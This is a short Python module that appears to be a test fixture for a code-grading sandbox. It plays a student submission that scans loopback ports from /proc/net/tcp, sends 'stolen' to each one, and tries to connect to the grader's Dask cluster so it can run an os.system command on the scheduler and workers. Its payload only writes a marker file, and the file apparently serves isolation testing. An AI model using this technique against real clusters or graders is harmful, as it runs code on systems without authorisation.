"""Looks for the grader's Dask cluster on this machine's loopback and tries to run code in it."""

import os
import socket
import time

PORT = int("{PORT}")
MARK = "REACHED-BY-STUDENT-CODE"


def _listening():
    """Ports listening on loopback, from /proc/net/tcp where it can be read, and the grader's."""
    ports = set([PORT])
    try:
        with open("/proc/net/tcp", encoding="ascii") as fh:
            for line in fh.readlines()[1:]:
                local, state = line.split()[1], line.split()[3]
                if state == "0A" and local.startswith("0100007F:"):
                    ports.add(int(local.split(":")[1], 16))
    except OSError:
        pass
    return sorted(ports)


PLANT = f"echo student code ran here > {MARK}"  # in the cluster's folder: the course's


def attack(*args, **kwargs):
    reached = []
    ends = time.monotonic() + 2.0
    for port in _listening():
        if time.monotonic() > ends:
            break
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.3) as conn:
                conn.sendall(b"stolen")
            reached.append(port)
        except OSError:
            continue
        try:
            from distributed import Client

            for scheme in ("tcp", "tls"):
                try:
                    with Client(f"{scheme}://127.0.0.1:{port}", timeout=1) as client:
                        client.run_on_scheduler(os.system, PLANT)
                        client.run(os.system, PLANT)
                        reached.append(f"{scheme}:{port} ran code")
                except Exception:  # noqa: BLE001
                    continue
        except ImportError:
            pass
    raise RuntimeError(f"reached {len(reached)} ports")
